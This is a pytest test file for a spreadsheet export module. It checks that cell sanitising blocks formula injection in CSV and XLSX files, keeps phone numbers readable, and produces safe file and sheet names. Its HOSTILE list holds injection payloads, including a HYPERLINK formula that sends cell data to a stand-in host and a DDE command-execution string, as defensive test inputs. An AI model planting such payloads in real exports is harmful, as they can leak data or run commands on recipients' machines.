"""Lists for a spreadsheet: what is typed into a name is never computed, and phone numbers stay readable."""

import csv
import io
import re
import unicodedata
from datetime import datetime
from decimal import Decimal
from zipfile import ZipFile

import pytest

from portal.core.sheets import (
    SIGNS,
    SheetColumn,
    Worksheet,
    as_csv,
    as_workbook,
    as_xlsx,
    file_name,
    phone_cell,
    safe_cell,
)
from tests.spreadsheets import read_csv, read_xlsx

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200c=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "−1",
    '"=1+1',
    "'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"Amina")',
    "=cmd|' /C calc'!A0",
    "Amina;=1+1",
    'Amina",=1+1',
    'Amina;"=1+1',
    "Amina\n=1+1",
]


def starts_a_formula(cell):
    """Whether a program might compute a cell, however it looks past spaces, marks and quotes."""
    seen = [c for c in cell if unicodedata.category(c) not in ("Cf", "Cc") and not c.isspace() and c != '"']
    return bool(seen) and unicodedata.normalize("NFKC", seen[0]) in "=+-@−"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_starts_a_formula(text):
    assert not starts_a_formula(safe_cell(text))
    (_head, (in_csv,)) = read_csv(as_csv([SheetColumn("Name")], [[text]]))
    (_head, (in_xlsx,)) = read_xlsx(as_xlsx([SheetColumn("Name")], [[text]], name="x"))
    assert in_csv == in_xlsx == safe_cell(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_not_even_a_program_that_splits_at_other_signs_finds_a_formula(text):
    line = as_csv([SheetColumn("Name")], [[text]]).decode("utf-8-sig").split("\r\n")[1]
    for sign in ",;\t|":
        (cells,) = csv.reader([line], delimiter=sign)
        assert [cell for cell in cells if starts_a_formula(cell)] == []


@pytest.mark.parametrize(
    "text", ["Amina", "أم سارة", "شازیہ", "Ayşe-Nur", "O'Hara", "Anna + 2", "a@b.dk", "44 77 00 11", "Zoë =)", ""]
)
def test_what_is_harmless_stays_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.slow
def test_whatever_is_typed_no_cell_starts_a_formula():
    hypothesis = pytest.importorskip("hypothesis", reason="made-up names need hypothesis (requirements-dev.txt)")
    st = hypothesis.strategies
    odd = st.text(st.sampled_from(SIGNS + " \t\r\n;,|\"'\u00a0\u200b\u200c\u202e\ufeffAæع1"), max_size=12)
    texts = st.lists(st.one_of(odd, st.text(max_size=40)), min_size=1, max_size=4)

    @hypothesis.settings(derandomize=True, max_examples=200)
    @hypothesis.given(texts)
    def whatever_is_typed(row):
        columns = [SheetColumn("Name")] * (len(row) + 1)
        expected = [safe_cell(text) for text in row]
        assert [cell for cell in expected if starts_a_formula(cell)] == []
        assert read_csv(as_csv(columns, [[*row, 1]]))[1] == [*expected, "1"]
        assert read_xlsx(as_xlsx(columns, [[*row, 1]], name="x"))[1] == [*(cell or None for cell in expected), 1]

    whatever_is_typed()


@pytest.mark.parametrize(
    ("e164", "shown"),
    [
        ("+4544770011", "44 77 00 11"),
        ("+46701234567", "0046 70 123 45 67"),
        ("+16502530000", "001 650-253-0000"),
        (None, ""),
    ],
)
def test_a_phone_number_is_readable_and_no_formula(e164, shown):
    assert phone_cell(e164) == shown == safe_cell(phone_cell(e164))


def test_a_csv_opens_in_a_danish_excel():
    file = as_csv([SheetColumn("Name"), SheetColumn("Adults")], [['Søs "Æ"', 2], [None, 0]])
    assert file == b'\xef\xbb\xbf"Name";"Adults"\r\n"S\xc3\xb8s ""\xc3\x86""";"2"\r\n"";"0"\r\n'


def test_in_a_workbook_texts_are_texts_numbers_numbers_and_times_times():
    moment = datetime(2027, 3, 28, 17, 5)
    rows = [["0046 70", 2, moment], ["http://x.example", 0, None], ["12", 3, moment]]
    file = as_xlsx([SheetColumn("Phone"), SheetColumn("Adults"), SheetColumn("When")], rows, name="7K3F")
    assert read_xlsx(file) == [
        ["Phone", "Adults", "When"],
        ["0046 70", 2.0, moment],
        ["http://x.example", 0.0, None],
        ["12", 3.0, moment],
    ]
    with ZipFile(io.BytesIO(file)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "hyperlink" not in sheet
        assert 'state="frozen"' in sheet and "rightToLeft" not in sheet
        assert re.findall(r'<c r="[ABC]1" s="(\d+)"', sheet) == ["1", "1", "1"]
        assert "<b/>" in book.read("xl/styles.xml").decode()


def test_a_sheet_is_read_from_the_right_where_she_reads_so():
    with ZipFile(io.BytesIO(as_xlsx([SheetColumn("الاسم")], [], name="x", rtl=True))) as book:
        assert 'rightToLeft="1"' in book.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("name", ["[7K3F]:*?/\\", "'", "n" * 80])
def test_a_sheet_has_a_name_whatever_it_is_called(name):
    assert as_xlsx([SheetColumn("Name")], [], name=name)


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ("tilmeldinger", "7K3F-tilmeldinger.csv"),
        ("Årets møder", "7K3F-aarets-moeder.csv"),
        ("kayıtlar", "7K3F-kayitlar.csv"),
        ("التسجيلات", "7K3F.csv"),
        ('a"\r\nb/../c', "7K3F-a-b-c.csv"),
    ],
)
def test_a_file_has_a_name_of_plain_letters(words, name):
    assert file_name("7K3F", words, "csv") == name


def test_a_decimal_shows_the_places_it_has():
    amounts = [Decimal("9.8"), Decimal("25000.00"), Decimal("-0.5"), Decimal(3)]
    _head, *in_csv = read_csv(as_csv([SheetColumn("Mean")], [[one] for one in amounts]))
    assert in_csv == [["9,8"], ["25000,00"], ["-0,5"], ["3"]]
    file = as_xlsx([SheetColumn("Mean")], [[one] for one in amounts], name="x")
    assert [value for (value,) in read_xlsx(file)[1:]] == [9.8, 25000, -0.5, 3]


def test_the_sheets_of_a_workbook_have_names_that_any_program_takes_and_no_name_twice():
    long = "Conversations month by month, and of each mother"
    names = ["Who asked", "who asked", long, long, "What/about:[this]?*", "'quoted'", "", "  "]
    file = as_workbook([Worksheet(name, [SheetColumn("Row")], [["x"]]) for name in names])
    with ZipFile(io.BytesIO(file)) as book:
        found = re.findall(r'<sheet name="([^"]*)"', book.read("xl/workbook.xml").decode())
        assert len([name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]) == len(names)
    assert found == [
        "Who asked",
        "who asked 2",
        "Conversations month by month, a",
        "Conversations month by month, 2",
        "What about  this",
        "quoted",
        "1",
        "1 2",
    ]
